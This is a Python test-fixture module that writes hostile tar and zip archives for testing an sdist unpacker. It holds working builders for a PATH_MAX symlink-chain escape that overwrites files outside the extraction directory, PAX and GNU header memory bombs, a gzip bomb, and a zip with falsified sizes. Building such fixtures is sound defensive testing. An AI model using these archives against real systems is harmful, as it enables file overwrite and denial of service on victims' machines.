"""Builders of sdist archives, honest and hostile, written by the tests that use them.

Each builder writes real tar / zip bytes (tarfile, zipfile, or raw headers where the standard
library refuses to write the attack) so the unpacker is tested on what an attacker could upload.
"""

from __future__ import annotations

import gzip
import io
import os
import stat
import struct
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

__all__ = [
    "MTIME",
    "Entry",
    "TarKind",
    "directory",
    "file",
    "gnu_longname_bomb",
    "gzip_bomb",
    "hardlink",
    "path_max_symlink_chain",
    "pax_header_bomb",
    "repeated_gzip_zeros",
    "symlink",
    "write_tar",
    "write_zip",
    "zip_with_lying_size",
]

TarKind = Literal["file", "dir", "symlink", "hardlink", "chr", "blk", "fifo"]
_TAR_TYPES: dict[TarKind, bytes] = {
    "file": tarfile.REGTYPE,
    "dir": tarfile.DIRTYPE,
    "symlink": tarfile.SYMTYPE,
    "hardlink": tarfile.LNKTYPE,
    "chr": tarfile.CHRTYPE,
    "blk": tarfile.BLKTYPE,
    "fifo": tarfile.FIFOTYPE,
}
_WRITE_MODES: dict[str, Literal["w:gz", "w:bz2", "w:xz", "w"]] = {
    "gz": "w:gz",
    "bz2": "w:bz2",
    "xz": "w:xz",
    "": "w",
}
MTIME = 1_600_000_000  # 2020-09-13, a fixed archive time


@dataclass(frozen=True)
class Entry:
    """One archive member: a file (with data), a directory, a link (with target) or a device."""

    name: str
    kind: TarKind = "file"
    data: bytes = b""
    target: str = ""  # symlink / hardlink target
    mode: int = 0o644
    mtime: int = MTIME


def file(name: str, data: bytes = b"", mode: int = 0o644, mtime: int = MTIME) -> Entry:
    return Entry(name, "file", data, mode=mode, mtime=mtime)


def directory(name: str, mode: int = 0o755, mtime: int = MTIME) -> Entry:
    return Entry(name, "dir", mode=mode, mtime=mtime)


def symlink(name: str, target: str, mtime: int = MTIME) -> Entry:
    return Entry(name, "symlink", target=target, mode=0o777, mtime=mtime)


def hardlink(name: str, target: str) -> Entry:
    return Entry(name, "hardlink", target=target)


def write_tar(path: Path, entries: list[Entry], compression: str = "gz") -> Path:
    """A tar archive (`compression`: gz, bz2, xz or "" for none) with the entries in order."""
    with tarfile.open(path, _WRITE_MODES[compression], format=tarfile.PAX_FORMAT) as tar:
        for entry in entries:
            info = tarfile.TarInfo(entry.name)
            info.type = _TAR_TYPES[entry.kind]
            info.linkname = entry.target
            info.mode = entry.mode
            info.mtime = entry.mtime
            if entry.kind == "file":
                info.size = len(entry.data)
                tar.addfile(info, io.BytesIO(entry.data))
            else:
                tar.addfile(info)
    return path


def write_zip(path: Path, entries: list[Entry]) -> Path:
    """A zip archive; symlinks are stored the Unix way (S_IFLNK in external_attr, target as data)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in entries:
            name = (
                entry.name + "/"
                if entry.kind == "dir" and not entry.name.endswith("/")
                else entry.name
            )
            info = zipfile.ZipInfo(name, date_time=(2020, 9, 13, 12, 26, 40))
            info.create_system = 3
            file_type = {
                "file": stat.S_IFREG,
                "dir": stat.S_IFDIR,
                "symlink": stat.S_IFLNK,
                "fifo": stat.S_IFIFO,
                "chr": stat.S_IFCHR,
                "blk": stat.S_IFBLK,
            }[entry.kind]
            info.external_attr = (file_type | entry.mode) << 16
            if entry.kind == "dir":
                info.external_attr |= 0x10  # MS-DOS directory bit, as zipfile writes it
            data = entry.target.encode() if entry.kind == "symlink" else entry.data
            archive.writestr(info, data)
    return path


def path_max_symlink_chain(top: str, dest: Path, outside_name: str) -> list[Entry]:
    """The CVE-2025-4517 archive: symlinks whose expansion exceeds PATH_MAX, then an escape.

    Nested directories with long names are reached through one-letter symlinks; the last link's
    expanded path is longer than PATH_MAX, so `os.path.realpath` stops expanding and a textual
    check sees a harmless path. Through it, `escape` points to the directory holding `dest`; a
    hard link to `outside_name` there, then a file of the same name, overwrite that file, and a
    new file is written next to it.
    """
    steps = "abcdefghijklmnop"
    path_max = os.pathconf(dest.parent, "PC_PATH_MAX") if dest.parent.exists() else 4096
    component = "d" * ((path_max - len(str(dest)) - len(top) - 2) // (len(steps) + 1))
    entries: list[Entry] = [directory(top)]
    path = top
    for step in steps:
        entries.append(directory(f"{path}/{component}"))
        entries.append(symlink(f"{path}/{step}", component))
        path = f"{path}/{component}"
    link = "/".join([top, *steps, "l" * 254])
    entries.append(symlink(link, "/".join([".."] * len(steps))))
    # `link` expands to the top directory; two levels up from there is dest's parent.
    entries.append(symlink(f"{top}/escape", "/".join([*steps, "l" * 254, "..", ".."])))
    entries.append(hardlink(f"{top}/flaglink", f"{top}/escape/{outside_name}"))
    entries.append(file(f"{top}/flaglink", b"overwritten"))
    entries.append(file(f"{top}/escape/newfile", b"new"))
    return entries


def repeated_gzip_zeros(total: int, piece: int = 8 << 20) -> bytes:
    """Gzip members that decompress to `total` zero bytes, fast to make: one member repeated."""
    member = gzip.compress(b"\0" * piece, compresslevel=9, mtime=0)
    count, rest = divmod(total, piece)
    return member * count + (gzip.compress(b"\0" * rest, mtime=0) if rest else b"")


def _raw_header(name: str, kind: bytes, size: int) -> bytes:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = size
    info.mtime = MTIME
    info.mode = 0o644
    return info.tobuf(format=tarfile.GNU_FORMAT)


def pax_header_bomb(path: Path, declared: int = 600 << 20) -> Path:
    """A small .tar.gz whose first PAX header declares `declared` bytes (and has them, as zeros).

    tarfile reads a PAX header's whole body into memory before the member it describes: the
    issue's 612 KB sdist drove pyhotfix to 1.8 GB this way.
    """
    header = _raw_header("././@PaxHeader", tarfile.XHDTYPE, declared)
    path.write_bytes(gzip.compress(header, mtime=0) + repeated_gzip_zeros(declared))
    return path


def gnu_longname_bomb(path: Path, declared: int = 600 << 20) -> Path:
    """Like `pax_header_bomb`, with a GNU long-name header (type L)."""
    header = _raw_header("././@LongLink", tarfile.GNUTYPE_LONGNAME, declared)
    path.write_bytes(gzip.compress(header, mtime=0) + repeated_gzip_zeros(declared))
    return path


def gzip_bomb(path: Path, top: str, declared: int, actual: int) -> Path:
    """A tiny .tar.gz holding one file that declares `declared` bytes; `actual` zeros follow."""
    head = _raw_header(top + "/", tarfile.DIRTYPE, 0) + _raw_header(
        f"{top}/zeros", tarfile.REGTYPE, declared
    )
    path.write_bytes(gzip.compress(head, mtime=0) + repeated_gzip_zeros(actual))
    return path


def zip_with_lying_size(path: Path, name: str, actual: int, declared: int) -> Path:
    """A zip whose one member decompresses to `actual` zero bytes but declares `declared`."""
    write_zip(path, [directory(name.split("/")[0]), file(name, b"\0" * actual)])
    raw = bytearray(path.read_bytes())
    encoded = name.encode()
    local = _find_record(raw, b"PK\x03\x04", 30, 26, encoded)
    struct.pack_into("<L", raw, local + 22, declared)
    central = _find_record(raw, b"PK\x01\x02", 46, 28, encoded)
    struct.pack_into("<L", raw, central + 24, declared)
    path.write_bytes(bytes(raw))
    return path


def _find_record(
    raw: bytearray, signature: bytes, fixed: int, name_len_at: int, name: bytes
) -> int:
    at = raw.find(signature)
    while at >= 0:
        (length,) = struct.unpack_from("<H", raw, at + name_len_at)
        if raw[at + fixed : at + fixed + length] == name:
            return at
        at = raw.find(signature, at + 1)
    raise AssertionError(f"no {signature!r} record for {name!r}")
